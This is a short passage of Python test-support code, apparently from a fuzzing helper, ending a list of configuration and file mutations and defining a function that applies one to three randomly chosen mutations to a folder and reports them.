    *[_in_a_job(each) for each in (*OF_CONFIGS[3:], odd_state)],
    *OF_FILES[1:],
]


def mutated(draw: random.Random, mutations: Sequence[Mutation], folder: Path) -> str:
    """Mutate a folder once to three times; gives how."""
    return "; ".join(draw.choice(mutations)(draw, folder) for _ in range(draw.choice((1, 1, 2, 3))))
